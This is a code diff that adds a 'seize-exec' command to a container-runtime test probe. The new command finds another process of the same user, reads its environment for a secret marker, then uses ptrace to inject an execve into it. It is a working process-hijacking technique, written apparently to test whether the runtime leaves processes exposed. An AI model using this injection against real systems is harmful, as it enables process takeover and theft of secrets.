@@ -28,6 +28,14 @@
  *                               environ, fd/, and an exe outside the container (kept, and
  *                               with "write" opened for writing and overwritten once it
  *                               is no longer busy); print a JSON summary
+ *   cella-probe seize-exec PATH OUT SECS
+ *                               for SECS seconds, look for another process of our own
+ *                               uid; print "found PID" and how much of its environ can
+ *                               be read ("environ N BYTES-WITH-MARKER" or "environ errno
+ *                               N"), PTRACE_SEIZE it and make it execve
+ *                               `PATH report-to OUT`: print "injected", or "seize errno N"
+ *                               (x86-64 only); "none" when no such process came
+ *   cella-probe report-to OUT   write the JSON report into OUT instead of stdout
  *
  * The rootfs it runs in has no libc, hence static; the output is written by
  * hand so it needs no library either. Errors in the report itself are not
@@ -55,6 +63,7 @@
 #include <sys/stat.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <sys/syscall.h>
@@ -976,6 +985,162 @@ static int cmd_attack_runtime(const char *secs, bool do_write)
 	return 0;
 }
 
+/* The real uid of pid, or -1. */
+static long uid_of(pid_t pid)
+{
+	char path[64], line[256];
+	long uid = -1;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
+	f = fopen(path, "r");
+	if (f == NULL)
+		return -1;
+	while (fgets(line, sizeof(line), f) != NULL)
+		if (strncmp(line, "Uid:", 4) == 0)
+			uid = strtol(line + 4, NULL, 10);
+	fclose(f);
+	return uid;
+}
+
+/* Another process of our uid, or 0. */
+static pid_t find_same_uid(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	pid_t found = 0, self = getpid();
+
+	while (d != NULL && (e = readdir(d)) != NULL) {
+		pid_t pid = atoi(e->d_name);
+
+		if (pid > 0 && pid != self && uid_of(pid) == (long)getuid()) {
+			found = pid;
+			break;
+		}
+	}
+	if (d != NULL)
+		closedir(d);
+	return found;
+}
+
+/* What /proc/PID/environ gives us: its size and whether MARKER is in it. */
+static void print_environ(pid_t pid, const char *marker)
+{
+	char path[64], buf[65536];
+	ssize_t n, total = 0;
+	bool has = false;
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0) {
+		printf("environ errno %d\n", errno);
+		return;
+	}
+	n = read(fd, buf, sizeof(buf) - 1);
+	if (n < 0) {
+		printf("environ errno %d\n", errno);
+		close(fd);
+		return;
+	}
+	total = n;
+	for (ssize_t i = 0; i < n; i++)
+		if (buf[i] == '\0')
+			buf[i] = '\n';
+	buf[n] = '\0';
+	has = strstr(buf, marker) != NULL;
+	printf("environ %zd %d\n", total, has ? 1 : 0);
+	close(fd);
+}
+
+/* seize-exec PATH OUT SECS: the attack on a process the runtime left
+ * within reach (issue 9): seize it and make it execve PATH. */
+static int cmd_seize_exec(const char *path, const char *out, const char *secs)
+{
+#if defined(__x86_64__)
+	double end = now_s() + atof(secs);
+	struct user_regs_struct regs;
+	unsigned long sp, str_path, str_cmd, str_out, argv;
+	const char *cmd = "report-to";
+	pid_t pid = 0;
+	int status;
+
+	while (pid == 0 && now_s() < end) {
+		pid = find_same_uid();
+		if (pid == 0)
+			usleep(2000);
+	}
+	if (pid == 0) {
+		printf("none\n");
+		return 0;
+	}
+	printf("found %d\n", (int)pid);
+	print_environ(pid, "CELLA_SECRET");
+	fflush(stdout);
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
+		printf("seize errno %d\n", errno);
+		return 0;
+	}
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 ||
+	    ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0) {
+		printf("interrupt errno %d\n", errno);
+		return 0;
+	}
+	/* Strings and argv below the red zone of its stack. */
+	sp = (regs.rsp - 4096) & ~15UL;
+	str_path = sp;
+	str_cmd = str_path + ((strlen(path) + 16) & ~7UL);
+	str_out = str_cmd + ((strlen(cmd) + 16) & ~7UL);
+	argv = str_out + ((strlen(out) + 16) & ~7UL);
+	const struct {
+		unsigned long at;
+		const char *s;
+	} strs[] = {{str_path, path}, {str_cmd, cmd}, {str_out, out}};
+	for (size_t i = 0; i < 3; i++) {
+		size_t len = strlen(strs[i].s) + 1;
+
+		for (size_t o = 0; o < len; o += sizeof(long)) {
+			long w = 0;
+
+			memcpy(&w, strs[i].s + o, len - o < sizeof(long) ? len - o : sizeof(long));
+			ptrace(PTRACE_POKEDATA, pid, (void *)(strs[i].at + o), (void *)w);
+		}
+	}
+	ptrace(PTRACE_POKEDATA, pid, (void *)argv, (void *)str_path);
+	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 8), (void *)str_cmd);
+	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 16), (void *)str_out);
+	ptrace(PTRACE_POKEDATA, pid, (void *)(argv + 24), (void *)0);
+	/* Stopped inside a system call: the `syscall` instruction is the two
+	 * bytes before rip; run it again as execve, with no restart. */
+	regs.rip -= 2;
+	regs.rax = SYS_execve;
+	regs.orig_rax = (unsigned long)-1;
+	regs.rdi = str_path;
+	regs.rsi = argv;
+	regs.rdx = 0;
+	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0) {
+		printf("inject errno %d\n", errno);
+		return 0;
+	}
+	printf("injected\n");
+	return 0;
+#else
+	(void)path, (void)out, (void)secs;
+	printf("unsupported\n");
+	return 1;
+#endif
+}
+
+/* report-to OUT: the report, into OUT. */
+static int cmd_report_to(const char *out)
+{
+	if (freopen(out, "w", stdout) == NULL)
+		return 1;
+	report();
+	fflush(stdout);
+	return 0;
+}
+
 /* syscall NAME [ARG...]: make one system call with integer arguments
  * (decimal or 0x hex) and print `ok RET` or `errno N` (seccomp tests). */
 static int cmd_syscall(int argc, char **argv)
@@ -1042,6 +1207,10 @@ int main(int argc, char **argv)
 		ret = cmd_syscall(argc - 2, argv + 2);
 	else if (strcmp(cmd, "try") == 0)
 		ret = cmd_try(arg);
+	else if (strcmp(cmd, "seize-exec") == 0 && argc > 4)
+		ret = cmd_seize_exec(arg, argv[3], argv[4]);
+	else if (strcmp(cmd, "report-to") == 0)
+		ret = cmd_report_to(arg);
 	else if (strcmp(cmd, "attack-runtime") == 0)
 		ret = cmd_attack_runtime(arg, argc > 3 && strcmp(argv[3], "write") == 0);
 	else
